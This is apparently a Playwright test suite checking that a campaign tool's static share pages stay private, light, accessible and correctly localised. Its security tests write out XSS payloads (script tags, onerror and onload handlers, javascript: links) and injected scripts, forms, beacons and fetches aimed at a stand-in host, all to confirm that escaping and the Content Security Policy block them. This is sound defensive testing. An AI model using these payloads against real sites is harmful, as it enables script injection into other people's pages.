"""The example's share pages, as ``groundswell share build`` writes them, in a real browser.

Whether they are opened from a disk or from ``share serve``, they ask for nothing but their own
files, keep nothing, and run nothing but their own scripts.
"""

from __future__ import annotations

import json
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import pytest
from helpers.axe import axe_faults_in_light_and_dark
from helpers.browser import watch
from helpers.campaigns import load_files, save_picture
from helpers.cli import ROOT
from helpers.share_folders import serve_built
from helpers.share_forms import LINK_APART, ONLY_LINKS, Received, read_address
from helpers.sharing import SHARE, share_campaign

from bot.config import load
from bot.services.share_page import build_share_pages
from bot.share.build import build_folder
from bot.share.filling import fill_campaign
from bot.share.networks import NETWORKS
from bot.share.words import words_for

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from playwright.sync_api import Browser, BrowserContext, Page, ViewportSize

DAY = datetime(2022, 7, 11, 12, tzinfo=UTC)
PARTNERS = (None, "athena")
WAYS = ("disk", "server")
PAGES = ("index.html", "people-over-profit/index.html", "people-over-profit/es/index.html")
PHONE: ViewportSize = {"width": 390, "height": 844}
COMPUTER: ViewportSize = {"width": 1360, "height": 900}

SHARES = "navigator.canShare = () => true; navigator.share = async () => {};"
"""Chromium on Linux has no share sheet."""

MOST_BYTES = 100_000
"""The budget of a page without its pictures."""
MOST_CPU_SECONDS = 3.0
"""The budget of the processor's time for a page, on a quarter of this machine's speed. It took 0.5
in November 2026."""


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str | None, Path]:
    """Return the built folder of the organisation, and that of its partner."""
    config = load(ROOT / "config.example.yaml", {})
    folders = {partner: tmp_path_factory.mktemp("public") for partner in PARTNERS}
    for partner, folder in folders.items():
        built = build_share_pages(config, folder, DAY, partner=partner, pretended=True)
        assert built.warnings == ()
    return folders


@dataclass
class Visit:
    """A visitor's browser, with all that its pages asked for and said."""

    context: BrowserContext
    root: str
    """The address of the folder."""
    requests: set[str] = field(default_factory=set)
    """What was asked for, as paths in the folder or whole addresses of anything else."""
    faults: list[str] = field(default_factory=list)
    """Errors, dialogs, lines of the console and violations of the policy."""

    def open(self, path: str) -> Page:
        tab = self.context.new_page()
        watched = watch(tab, "file:", "http:", "https:", "data:")
        tab.on("close", lambda _: self.faults.extend(watched))
        tab.goto(f"{self.root}/{path}")
        return tab


@dataclass
class Visits:
    """Makes visits to folders, and ends them."""

    browser: Browser
    stack: ExitStack

    def begin(self, folder: Path, way: str = "disk", **options: Any) -> Visit:
        root = folder.as_uri()
        if way == "server":
            root = self.stack.enter_context(serve_built(folder)).url
        context = self.browser.new_context(**{"viewport": PHONE, **options})
        self.stack.callback(context.close)
        context.add_init_script(SHARES)
        visit = Visit(context, root)
        context.on(
            "request", lambda one: visit.requests.add(unquote(one.url).removeprefix(f"{root}/"))
        )
        return visit


@pytest.fixture
def visits(browser: Browser) -> Iterator[Visits]:
    with ExitStack() as stack:
        yield Visits(browser, stack)


# --- What the buttons carry -----------------------------------------------------------------------

BUTTONS = """Array.from(document.querySelectorAll('.wording'), one => [
  one.id.replace(/^w-/, ''),
  one.querySelector('textarea').value,
  Array.from(one.querySelectorAll('a[data-network]'),
    a => [a.dataset.network, a.hasAttribute('href') ? a.href : a.innerText]),
])"""


@pytest.mark.parametrize("partner", PARTNERS)
def test_every_button_carries_its_text_and_a_link_that_tells_where_it_stood(
    visits: Visits, public: Mapping[str | None, Path], partner: str | None
) -> None:
    visit = visits.begin(public[partner])
    for path in PAGES[1:]:
        tab = visit.open(path)
        wordings = tab.evaluate(BUTTONS)
        assert len(wordings) > 4
        for name, text, buttons in wordings:
            assert [network for network, _ in buttons] == [*NETWORKS]
            for network, address in buttons:
                if address.startswith(("https:", "mailto:")):
                    expected = expect(network, name, text, partner, path)
                    found = read_address(address)
                    assert found._replace(subject="") == expected
                    assert found.subject == (tab.title() if network == "mail" else "")
                else:
                    assert "Too long" in address
        tab.close()


def expect(network: str, name: str, text: str, partner: str | None, path: str) -> Received:
    """Return what the form of a network has to show, without a mail's subject."""
    if network in ONLY_LINKS:
        folder = f"{partner}/" if partner else ""
        page = f"https://share.example.org/{folder}{path}".removesuffix("index.html")
        return Received(network, "", page)
    place = f"utm_source={network}&utm_medium=share&utm_campaign=people-over-profit"
    link = f"https://mediajustice.org/?{place}&utm_content={name}"
    link += f"&utm_term={partner}" if partner else ""
    if network in LINK_APART:
        return Received(network, text, link)
    return Received(network, f"{text}\n\n{link}")


# --- Nothing elsewhere, and nothing kept ----------------------------------------------------------

KEPT = """async () => ({
  cookies: document.cookie,
  local: localStorage.length,
  session: sessionStorage.length,
  databases: (await indexedDB.databases()).length,
  caches: isSecureContext && self.caches ? (await caches.keys()).length : 0,
  workers: isSecureContext && navigator.serviceWorker && location.protocol !== 'file:'
    ? (await navigator.serviceWorker.getRegistrations()).length : 0,
  name: window.name,
  history: JSON.stringify(history.state),
})"""
NOTHING = dict.fromkeys(("local", "session", "databases", "caches", "workers"), 0) | {
    "cookies": "",
    "name": "",
    "history": "null",
}


def use(tab: Page) -> None:
    """Do all that a visitor can do on a page without leaving it."""
    if tab.locator(".wording").count():
        for box in tab.locator(".wording textarea").all():
            box.fill("My own words, with https://elsewhere.example/picture.png in them")
        for name in ("[data-copy=text]", "[data-copy=link]", "[data-share]"):
            tab.locator(f".wording {name}").first.click()
        tab.locator(".pictures button").first.click()
        tab.get_by_role("status").get_by_text("C").wait_for()
        for summary in tab.locator("summary").all():
            summary.click()
    for picture in tab.locator("img").all():
        picture.scroll_into_view_if_needed()
        assert picture.evaluate("e => e.decode().then(() => e.naturalWidth)") == 1200
    tab.emulate_media(color_scheme="dark")
    tab.emulate_media(media="print")


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("partner", PARTNERS)
def test_a_visit_asks_for_the_folders_own_files_and_keeps_nothing(
    visits: Visits, public: Mapping[str | None, Path], partner: str | None, way: str
) -> None:
    folder = public[partner]
    visit = visits.begin(folder, way, permissions=["clipboard-read", "clipboard-write"])
    assert {str(path.relative_to(folder)) for path in folder.rglob("*.html")} == {*PAGES}
    for path in PAGES:
        tab = visit.open(path)
        use(tab)
        assert tab.evaluate(KEPT) == NOTHING
        tab.close()
    assert visit.context.storage_state(indexed_db=True) == {"cookies": [], "origins": []}
    assert visit.faults == []
    pictures = {f"people-over-profit/pictures/{one.name}" for one in folder.rglob("pictures/*")}
    assert len(pictures) == 2
    assert {one for one in visit.requests if not one.startswith("data:")} == {*PAGES, *pictures}


def test_a_picture_is_downloaded_as_it_lies_in_the_folder(
    visits: Visits, public: Mapping[str | None, Path]
) -> None:
    folder = public[None]
    tab = visits.begin(folder, "server").open(PAGES[2])
    with tab.expect_download() as download:
        tab.locator(".pictures a").first.click()
    name = download.value.suggested_filename
    assert name.startswith("hart-")
    path = folder / "people-over-profit/pictures" / name
    assert Path(download.value.path()).read_bytes() == path.read_bytes()


def test_nothing_on_a_page_is_idle_without_javascript(
    visits: Visits, public: Mapping[str | None, Path]
) -> None:
    visit = visits.begin(public["athena"], "server", java_script_enabled=False)
    tab = visit.open(PAGES[1])
    assert tab.locator("button:visible, [role=button]:visible").count() == 0
    for link in tab.locator("a:visible").all():
        assert link.get_attribute("href") or "Too long" in link.inner_text()
    assert "copy your text first" in tab.locator("header").inner_text()
    for summary in tab.locator("summary").all():
        summary.click()
    assert tab.locator("code").is_visible()
    tab.locator(".asks a").last.click()
    assert tab.url.endswith("#d-do-not-stay-silent")
    with tab.expect_download():
        tab.locator(".pictures a").first.click()
    tab.close()
    assert visit.faults == []


# --- Nothing runs but the page's own scripts ------------------------------------------------------

INJECT = """() => {
  const add = html => document.body.insertAdjacentHTML('beforeend', html);
  const script = document.createElement('script');
  script.textContent = 'window.ran = "an inline script"';
  document.body.append(script);
  const other = document.createElement('script');
  other.src = 'https://elsewhere.example/a.js';
  document.body.append(other);
  add('<img src="https://elsewhere.example/a.png" onerror="window.ran = \\'a handler\\'">');
  add('<iframe src="https://elsewhere.example/"></iframe><object data="a.swf"></object>');
  add('<p style="background: url(https://elsewhere.example/b.png)">styled</p>');
  add('<form action="https://elsewhere.example/" id="attack"><input name="a"></form>');
  add('<a id="link" href="javascript:window.ran = \\'a link\\'">link</a>');
  document.getElementById('link').click();
  document.getElementById('attack').requestSubmit();
  try { new WebSocket('wss://elsewhere.example/'); } catch { }
  navigator.sendBeacon('https://elsewhere.example/', 'a');
  return fetch('https://elsewhere.example/').then(() => 'fetched', () => 'refused');
}"""


@pytest.mark.parametrize("way", WAYS)
def test_the_policy_stops_all_that_somebody_could_put_into_a_page(
    visits: Visits, public: Mapping[str | None, Path], way: str
) -> None:
    visit = visits.begin(public[None], way)
    tab = visit.open(PAGES[1])
    ends: dict[str, str | None] = {}
    tab.on("requestfinished", lambda one: ends.update({one.url: None}))
    tab.on("requestfailed", lambda one: ends.update({one.url: one.failure}))
    assert tab.evaluate(INJECT) == "refused"
    tab.wait_for_load_state("networkidle")
    assert tab.evaluate("window.ran ?? 'nothing'") == "nothing"
    assert tab.url == f"{visit.root}/{PAGES[1]}"
    tab.close()
    said = "\n".join(visit.faults)
    for directive in (
        *("script-src-elem", "script-src-attr", "img-src", "style-src-attr", "form-action"),
        *("connect-src", "frame-src"),
    ):
        assert f"policy: {directive}" in said, directive
    assert set(ends.values()) == {"csp"}


# --- Budgets --------------------------------------------------------------------------------------

SHIFTS = """window.shifts = 0;
new PerformanceObserver(list => list.getEntries().forEach(one => { window.shifts += one.value; }))
  .observe({ type: 'layout-shift', buffered: true });"""


@pytest.mark.parametrize("viewport", [PHONE, COMPUTER], ids=["phone", "computer"])
def test_a_page_is_light_and_nothing_on_it_moves(
    visits: Visits, public: Mapping[str | None, Path], viewport: ViewportSize
) -> None:
    folder = public["athena"]  # whose own texts come on top
    visit = visits.begin(folder, "server", viewport=viewport)
    for path in PAGES:
        assert (folder / path).stat().st_size < MOST_BYTES, path
        visit.requests.clear()
        tab = visit.context.new_page()
        tab.add_init_script(SHIFTS)
        devtools = visit.context.new_cdp_session(tab)
        devtools.send("Emulation.setCPUThrottlingRate", {"rate": 4})
        devtools.send("Performance.enable")
        tab.goto(f"{visit.root}/{path}", wait_until="networkidle")
        metrics = devtools.send("Performance.getMetrics")["metrics"]
        assert {one["name"]: one["value"] for one in metrics}["ThreadTime"] < MOST_CPU_SECONDS
        assert visit.requests - {"data:,"} == {path}, "pictures load as soon as one comes near"
        tab.evaluate("scrollTo({ top: document.body.scrollHeight, behavior: 'instant' })")
        tab.wait_for_load_state("networkidle")
        assert tab.evaluate("shifts") == 0
        tab.close()


def test_axe_finds_no_fault(visits: Visits, public: Mapping[str | None, Path]) -> None:
    visit = visits.begin(public["athena"], bypass_csp=True)
    for path in PAGES:
        tab = visit.open(path)
        assert axe_faults_in_light_and_dark(tab) == [], path
        tab.close()


# --- A hostile campaign ---------------------------------------------------------------------------

ATTACK = (
    "</textarea></title></style></script><script>alert(1)</script><img src=x onerror=alert(1)>"
    '<svg onload=alert(1)>" onfocus=alert(1) autofocus x=" \' &amp; &lt; %41 %0A% + \\ ${1} {text} '
    "{count} $& <!-- \u200f\u2067 javascript:alert(1)"
)
"""Markup that leaves every place, half of a comment, and a mark of direction that is not closed."""

ADDRESS = "https://example.org/a?q='(b)&amp;c=%41+$&$1#top"


def hostile_campaign() -> str:
    """Return a campaign's file in which every text is an attack that says where it stands."""

    def attack(place: str) -> str:
        return json.dumps(f"{place} {ATTACK}")  # which YAML reads too

    own_words = {key: attack(key) for key in words_for("en", {}) if key != "months"}
    months = json.dumps(", ".join(f"<b onclick=alert({number})>'\"%" for number in range(12)))
    words = ", ".join(f"{key}: {text}" for key, text in own_words.items())
    return f"""\
campaign: people
title: {attack("title")}
timezone: America/New_York
language: en
accounts: [mediajustice-x]
partners: [athena]
facts:
  hart: {{claim: {attack("claim")}, figure: {attack("figure")},
         source: {json.dumps(ADDRESS)}, as_of: 2022-07-18}}
demands:
  hart: {{ask: {attack("ask")}, target: {attack("target")}, facts: [hart]}}
  nimbus: {{ask: {attack("other ask")}, target: {attack("other target")}}}
links: {{pages: ["https://example.org/"]}}
share:
  organisation: {attack("organisation")}
  page: https://share.example.org/people/
  link: {json.dumps(ADDRESS)}
  intro: {attack("intro")}
  subject: {attack("subject")}
  pictures: [{{file: bird.png, alt: {attack("alt")}}}]
  wordings:
    - {{id: typed, demand: hart, text: {attack("text")}}}
    - {{id: filled, demand: hart, text: "{{{{ fact.hart.figure }}}} {{{{ demand.ask }}}}"}}
  partners: {{athena: {{name: {attack("partner")}, page: https://share.example.org/athena/}}}}
  languages:
    ar:
      title: {attack("title")}
      intro: {attack("intro")}
      subject: {attack("subject")}
      words: {{{words}, months: {months}}}
      demands: {{hart: {{ask: {attack("ask")}, target: {attack("target")}}}}}
      facts: {{hart: {{claim: {attack("claim")}, figure: {attack("figure")}}}}}
      pictures: [{{file: bird.png, alt: {attack("alt")}}}]
      wordings: [{{id: arabic, demand: hart, text: {attack("text")}}}]
posts: []
"""


SHOWN = ("organisation", "partner", "intro", "claim", "figure", "ask", "target")
OWN_WORDS = ("intro", "claim", "figure", "ask", "own_words", "your_text", "nothing_posted")
"""Places on the page whose own words are attacks, which have no place for other texts."""

INTRUDERS = """[
  ...document.querySelectorAll('svg, b[onclick], [onerror], [onload], [onfocus], [autofocus]'),
  ...document.querySelectorAll('a[href^="javascript:" i], img[src="x"], base, iframe, object'),
].map(e => e.outerHTML)"""


@pytest.mark.parametrize("way", WAYS)
def test_attacks_in_every_text_are_shown_and_do_nothing(
    visits: Visits, tmp_path: Path, way: str
) -> None:
    save_picture(tmp_path / "bird.png", (1200, 675))
    loaded = load_files(tmp_path, a=hostile_campaign())
    assert loaded.problems == ()
    out = tmp_path / "public"
    build_folder(out, [fill_campaign(loaded.campaigns[0], DAY.date(), "athena")])
    visit = visits.begin(out, way, permissions=["clipboard-read", "clipboard-write"])
    for path in ("index.html", "people/index.html", "people/ar/index.html"):
        tab = visit.open(path)
        words = tab.locator("body").inner_text()
        assert "title </textarea></title></style></script><script>alert(1)" in words
        if tab.locator(".wording").count():
            for place in SHOWN if path == "people/index.html" else OWN_WORDS:
                assert f"{place} </textarea></title>" in words, place
            text = f"text {ATTACK}"
            assert tab.locator(":is(#w-typed, #w-arabic) textarea").input_value() == text
            assert tab.locator("img").get_attribute("alt") == f"alt {ATTACK}"
            assert tab.title() == f"title {ATTACK}"
        use(tab)
        assert tab.evaluate(INTRUDERS) == []
        assert tab.locator("script").count() == (2 if "people" in path else 0)
        tab.close()
    assert visit.faults == []
    others = {one for one in visit.requests if not one.endswith("index.html")} - {"data:,"}
    assert all(one.startswith("people/pictures/bird-") for one in others)


# --- Many languages -------------------------------------------------------------------------------

TAGS = (
    *("ar", "he", "fa", "ur", "de", "fr", "it", "pt-BR", "nl", "pl", "cs", "tr", "ru", "uk", "el"),
    *("zh-Hant", "ja", "ko", "hi", "sw"),
)
RIGHT_TO_LEFT = {"ar", "he", "fa", "ur"}
MIRRORED = """() => {
  const left = e => e.getBoundingClientRect().left;
  const [x, bluesky] = document.querySelectorAll('.buttons a');
  const range = document.createRange();
  range.selectNodeContents(document.querySelector('.steps li'));
  return left(x) > left(bluesky)
    && getComputedStyle(document.querySelector('.first')).textAlign === 'start'
    && range.getBoundingClientRect().right > innerWidth / 2;
}"""


NARROW = """Array.from(document.querySelectorAll('a:not(p a), button, textarea, summary')).filter(
    e => e.checkVisibility() && Math.min(e.offsetWidth, e.offsetHeight) < 24
).map(e => e.outerHTML.slice(0, 120))"""


def test_twenty_languages_have_a_page_each_and_read_their_way(
    visits: Visits, tmp_path: Path
) -> None:
    more = "".join(f"    {tag}: {{title: {tag}}}\n" for tag in TAGS)
    out = tmp_path / "public"
    build_folder(out, [fill_campaign(share_campaign(tmp_path, SHARE + more), DAY.date())])
    visit = visits.begin(out)
    tab = visit.open("people/index.html")
    for tag in (*TAGS, "es"):
        tab.locator(f".languages a[hreflang='{tag}']").click()
        assert tab.url == f"{visit.root}/people/{tag}/index.html"
        way = "rtl" if tag in RIGHT_TO_LEFT else "ltr"
        assert tab.evaluate("[document.documentElement.lang, document.dir]") == [tag, way]
        assert tab.locator(".languages li").count() == len(TAGS) + 2
        assert tab.locator(".languages a:not([hreflang='en'])").count() == len(TAGS)
        assert tab.evaluate(MIRRORED) is (way == "rtl")
        assert tab.evaluate(NARROW) == []
        for width in (320, PHONE["width"], COMPUTER["width"]):
            tab.set_viewport_size({"width": width, "height": 844})
            assert tab.evaluate("document.documentElement.scrollWidth") <= width, tag
    tab.goto(f"{visit.root}/index.html")
    assert tab.evaluate(NARROW) == []
    tab.close()
    assert visit.faults == []
